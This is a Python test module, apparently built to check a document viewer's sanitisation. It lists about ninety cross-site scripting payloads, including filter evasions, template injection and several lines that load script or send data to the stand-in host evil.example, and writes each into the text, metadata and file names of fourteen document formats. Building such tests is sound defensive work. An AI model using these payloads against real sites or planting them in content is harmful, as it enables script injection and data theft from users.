"""What runs script in pages that let it, a payload for each way in; each tells on itself by `window.__pwned`."""

import zlib
from email.message import EmailMessage
from pathlib import Path

from hostile.archives import PARAGRAPH, body, book, chapter, relation, relations, word
from hostile.offices import inline, odf, rtf, shape, sheet, slide, workbook
from hostile.pdfs import CATALOGUE, FONT, leaf, pages, pdf, stream

RUN = "window.__pwned=1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT >",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script from data": f"<script src='data:text/javascript,{RUN}'></script>",
    "script of a module": f"<script type=module>{RUN}</script>",
    "script that does not end": f"<script>{RUN}//",
    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "picture with an error": f"<img src=x onerror={RUN}>",
    "picture without spaces": f"<img/src=x/onerror={RUN}>",
    "picture with line breaks": f"<img\nsrc=x\nonerror\n=\n{RUN}\n>",
    "picture with form feeds": f"<img\x0csrc=x\x0conerror={RUN}>",
    "picture with backquotes": f"<img src=`x` onerror=`{RUN}`>",
    "picture that is tracked": "<img src=https://evil.example/p.png>",
    "picture by a set": f"<img srcset='x 1x' onerror={RUN}>",
    "picture in a picture": f"<picture><source srcset=x><img onerror={RUN} src=x></picture>",
    "drawing that loads": f"<svg onload={RUN}>",
    "drawing with script": f"<svg><script>{RUN}</script></svg>",
    "drawing that is animated": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "drawing that sets a link": f"<svg><a><set attributeName=href to=javascript:{RUN} /><text>x</text></a></svg>",
    "drawing that is used": f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>#x\">",
    "drawing with foreign parts": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    "formula with a link": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    "formula that turns into markup": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "body that loads": f"<body onload={RUN}>",
    "focus that is taken": f"<input autofocus onfocus={RUN}>",
    "details that open": f"<details open ontoggle={RUN}>x</details>",
    "text that runs": f"<marquee onstart={RUN}>x</marquee>",
    "sound with an error": f"<audio src=x onerror={RUN}></audio>",
    "film with an error": f"<video><source onerror={RUN}></video>",
    "style that is animated": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart={RUN}>x</p>",
    "style that is fetched": "<style>@import 'https://evil.example/x.css';</style>",
    "style with an address": '<p style="background:url(https://evil.example/x)">x</p>',
    "style that covers the page": "<div style='position:fixed;inset:0;z-index:9999'>over</div>",
    "style with an expression": f"<p style='width:expression({RUN})'>x</p>",
    "link that runs": f"<a href=javascript:{RUN}>x</a>",
    "link that runs, with a tab": f"<a href='java\tscript:{RUN}'>x</a>",
    "link that runs, by numbers": f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    "link to data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "link to VBScript": "<a href='vbscript:msgbox(1)'>x</a>",
    "frame": f"<iframe src=javascript:{RUN}></iframe>",
    "frame with a source": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data=javascript:{RUN}></object>",
    "embedded thing": f"<embed src=javascript:{RUN}>",
    "form that is sent": "<form action=https://evil.example><input name=x><button>Go</button></form>",
    "button that acts elsewhere": f"<button form=x formaction=javascript:{RUN}>x</button><form id=x></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "base": "<base href=https://evil.example/>",
    "link element": "<link rel=stylesheet href=https://evil.example/x.css>",
    "end of an attribute": f'"><img src=x onerror={RUN}>',
    "end of an attribute, single": f"'><img src=x onerror={RUN}>",
    "handler in an attribute": f'" onmouseover={RUN} x="',
    "handler in an attribute, with focus": f"' autofocus onfocus={RUN} tabindex=1 x='",
    "end of a title": f"</title><script>{RUN}</script>",
    "end of a text field": f"</textarea><img src=x onerror={RUN}>",
    "end of a style": f"</style><img src=x onerror={RUN}>",
    "end of a script": f"</script><img src=x onerror={RUN}>",
    "end of a comment": f"--><img src=x onerror={RUN}><!--",
    "comment of old browsers": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "character data": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "instruction of XML": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "numbers for signs": f"&lt;img src=x onerror={RUN}&gt;",
    "numbers for numbers": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "numbers without an end": f"&#60img src=x onerror={RUN}&#62",
    "signs of JavaScript": f"\\u003cimg src=x onerror={RUN}\\u003e",
    "end of a string": f"';{RUN};//",
    "end of a template string": f"`;{RUN};//${{{RUN}}}",
    "template": f"${{{RUN}}}",
    "template of Angular": "{{constructor.constructor('" + RUN + "')()}}",
    "template of the server": "{% raw %}{{ 7*7 }}<%= 7*7 %>#{7*7}",
    "signs of other widths": f"＜script＞{RUN}＜/script＞",
    "signs of UTF-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "link of Markdown": f"[x](javascript:{RUN})",
    "link of Markdown by reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "link of Markdown in brackets": f"<javascript:{RUN}>",
    "link of Markdown with a title": f'[x](y "z\\" onmouseover={RUN} ")',
    "picture of Markdown": "![x](https://evil.example/p.png)",
    "picture of Markdown with an error": f'![x](x"onerror="{RUN})',
    "code of Markdown that ends": f"```\n```<img src=x onerror={RUN}>",
    "table of Markdown": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "diagram of Markdown": f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]\n```',
    "formula of TeX": f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\(\\unicode{{<img src=x onerror={RUN}>}}\\)",
    "address": "https://evil.example/x www.evil.example me@evil.example",
    "citation that is forged": "[\\[1\\] a.txt](#cite-1-1) [x](#cite-9-9)",
    "name of a thing of the page": "<a id=panel name=gradio_config><form id=source name=__pwned>",
    "markup that swallows": "<img src='https://evil.example/?",
    "custom element": f"<x-y onpointerenter={RUN} style=display:block contenteditable>x</x-y>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>y</div>",
    "text turned round": f"\u202e>tpircs/<{RUN}>tpircs<\u202c",
    "many ways at once": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>",
}

LINE = "Payload {number} says"


def _xml(text: str) -> str:
    kept = "".join(c for c in text if c in "\t\n\r" or c >= " ")
    return kept.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _signs(text: str) -> str:
    """Text as RTF writes it."""
    return "".join(c if c.isascii() and c.isalnum() else f"\\u{ord(c)}?" for c in text)


def _pdf(text: str, title: str) -> bytes:
    shown = text.encode("ascii", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    lines = b" ".join(b"(%s) Tj 0 -12 Td" % line for line in shown.split(b"\n"))
    drawn = stream(zlib.compress(b"BT /F 8 Tf 20 150 Td %s ET" % lines), b"/Filter/FlateDecode")
    named = b"<</Title<%s>/Author<%s>>>" % ((title.encode("utf-16").hex().encode("ascii"),) * 2)
    sized = leaf(b"/MediaBox[0 0 3000 200]")
    return pdf(CATALOGUE, pages(), sized, drawn, FONT, named, trailer=b"/Info 6 0 R")


def _mail(text: str, title: str) -> bytes:
    mail = EmailMessage()
    line = " ".join(title.split())
    mail["Subject"], mail["From"] = line, f'"{line.replace(chr(34), "").replace(chr(92), "")[:60]}" <a@example.org>'
    mail.set_content(text)
    mail.add_attachment(b"x", maintype="text", subtype="x", filename=line)
    return mail.as_bytes()


def _word(text: str, title: str) -> bytes:
    heading = f'<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>{_xml(title)}</w:t></w:r></w:p>'
    said = PARAGRAPH.replace("Some words.", _xml(text))
    core = f'<c:p xmlns:c="urn:x" xmlns:d="http://purl.org/dc/elements/1.1/"><d:title>{_xml(title)}</d:title></c:p>'
    return word(
        body(heading + said),
        {"docProps/core.xml": core, "docProps/_rels/x.rels": relations(relation("x", _xml(title)))},
    )


def carriers(text: str, title: str) -> dict[str, bytes]:
    """A document of each format that says `text`, and has `title` in its titles, headings, names and metadata."""
    cell = text.replace('"', '""')
    meta: dict[str, str | bytes] = {"meta.xml": f"<m><title>{_xml(title)}</title><creator>{_xml(title)}</creator></m>"}
    return {
        ".txt": f"{title}\n\n{text}\n".encode(),
        ".md": f"---\ntitle: {title}\n---\n\n# {title}\n\n{text}\n".encode(),
        ".html": (
            f'<meta charset=utf-8><title>{_xml(title)}</title><meta name=author content="{_xml(title)}">'
            f'<h1 title="{_xml(title)}">{_xml(title)}</h1><p>{_xml(text)}</p>'
        ).encode(),
        ".csv": f'"{title.replace(chr(34), chr(34) * 2)}",b\n"{cell}",1\n'.encode(),
        ".eml": _mail(text, title),
        ".docx": _word(text, title),
        ".epub": book(
            {"a.xhtml": chapter(f"<h1>{_xml(title)}</h1><p>{_xml(text)}</p>")}, head=f"<title>{_xml(title)}</title>"
        ),
        ".pdf": _pdf(text, title),
        ".pptx": slide(shape(f"<a:p><a:r><a:t>{_xml(text)}</a:t></a:r></a:p>"), _xml(title)),
        ".xlsx": workbook(_xml(title), sheet(f'<row r="1">{inline(_xml(text))}</row>')),
        ".odt": odf(f'<text:h text:outline-level="1">{_xml(title)}</text:h><text:p>{_xml(text)}</text:p>', more=meta),
        ".odp": odf(
            f'<draw:page draw:name="{_xml(title)}"><draw:frame presentation:class="title"><draw:text-box>'
            f"<text:p>{_xml(title)}</text:p></draw:text-box></draw:frame><draw:frame><draw:text-box><text:p>{_xml(text)}"
            "</text:p></draw:text-box></draw:frame></draw:page>",
            "presentation",
            more=meta,
        ),
        ".ods": odf(
            f'<table:table table:name="{_xml(title)}"><table:table-row><table:table-cell><text:p>{_xml(text)}</text:p>'
            "</table:table-cell></table:table-row></table:table>",
            "spreadsheet",
            more=meta,
        ),
        ".rtf": rtf(
            f"{{\\info{{\\title {_signs(title)}}}}}{{\\outlinelevel0 {_signs(title)}\\par}}\\pard {_signs(text)}\\par"
        ),
    }


FORMATS = len(carriers("", ""))


def lay_out(folder: Path) -> None:
    """A folder in which every payload is in every format's text and titles, and in names of files and folders."""
    for number, payload in enumerate(PAYLOADS.values()):
        said = f"{LINE.format(number=number)} {payload}"
        for suffix, data in carriers(said, payload).items():
            end = "x" if payload[:150].endswith("/") else ""  # a slash in it makes it a folder and a file
            path = folder / f"{number:03} {payload[:150]}{end}{suffix}"
            if len(path.name.encode()) > 255 or "\0" in path.name:
                path = folder / f"{number:03}{suffix}"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
